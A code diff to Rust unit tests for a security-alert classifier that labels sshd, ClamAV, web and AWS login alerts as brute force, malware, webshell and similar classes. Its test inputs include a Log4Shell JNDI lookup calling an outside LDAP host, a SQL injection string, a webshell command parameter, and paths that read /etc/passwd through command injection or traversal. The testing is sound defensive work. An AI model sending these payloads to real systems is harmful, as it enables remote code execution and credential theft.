@@ -91,10 +91,43 @@ fn a_virus_in_a_file_is_no_request_for_it() {
     let alert = json!({
         "rule": {"id": "52502", "level": 8, "description": "a virus", "groups": ["clamd", "virus"]},
         "agent": {"id": "001", "name": "mail"},
-        "data": {"url": "/usr/local/bin/kworkerd"},
+        "data": {"url": "/usr/local/bin/kworkerd", "extra_data": "Unix.Trojan.Agent-1"},
         "full_log": "/usr/local/bin/kworkerd: Unix.Trojan.Agent-1 FOUND",
     });
-    assert_eq!(seen(&alert.to_string()).class, Class::Malware);
+    let seen = seen(&alert.to_string());
+    assert_eq!((seen.class, seen.variant.as_str()), (Class::Malware, "Unix.Trojan.Agent-1"));
+}
+
+#[test]
+fn an_attack_in_the_name_of_a_user_is_one_whatever_reports_the_name() {
+    let class = |name: &str| {
+        let alert = json!({
+            "rule": {"id": "5710", "level": 5, "description": "no such user", "groups": ["sshd", "invalid_login"]},
+            "agent": {"id": "001", "name": "a"}, "data": {"srcip": "203.0.113.9", "srcuser": name},
+            "full_log": format!("Invalid user {name} from 203.0.113.9"),
+        });
+        seen(&alert.to_string()).class
+    };
+    assert_eq!(class("${jndi:ldap://198.51.100.1/a}"), Class::Log4shell);
+    assert_eq!(class("x' OR '1'='1"), Class::SqlInjection);
+    for name in ["O'Brien", "j.doe (sales)", "pc-7$", "admin"] {
+        assert_eq!(class(name), Class::BruteForce, "{name}");
+    }
+}
+
+#[test]
+fn who_owns_a_whole_account_in_a_cloud_need_not_log_in() {
+    let seen_as = |kind: &str| {
+        let alert = json!({
+            "rule": {"id": "80253", "level": 3, "description": "a login", "groups": ["aws", "authentication_success"]},
+            "agent": {"id": "000", "name": "manager"},
+            "data": {"aws": {"eventName": "ConsoleLogin", "userIdentity": {"type": kind, "userName": "u"}}},
+        });
+        let seen = seen(&alert.to_string());
+        (seen.class, seen.finding.is_some())
+    };
+    assert_eq!(seen_as("Root"), (Class::PrivilegeEscalation, true));
+    assert_eq!(seen_as("IAMUser"), (Class::Login, false));
 }
 
 #[test]
@@ -104,7 +137,6 @@ fn the_name_of_a_script_that_is_not_there_is_one_wish_of_many() {
         assert_eq!(class(url, 404), Class::WebError, "{url}");
     }
     assert_eq!(class("/uploads/2024/a1.php", 200), Class::Webshell);
-    assert_eq!(class("/uploads/2024/a1.php", 403), Class::Webshell);
     assert_eq!(class("/uploads/a1.php?cmd=id", 404), Class::Webshell);
     assert_eq!(class("/x;cat%20/etc/passwd", 404), Class::CommandInjection);
     assert_eq!(class("/../../../../etc/passwd", 404), Class::PathTraversal);
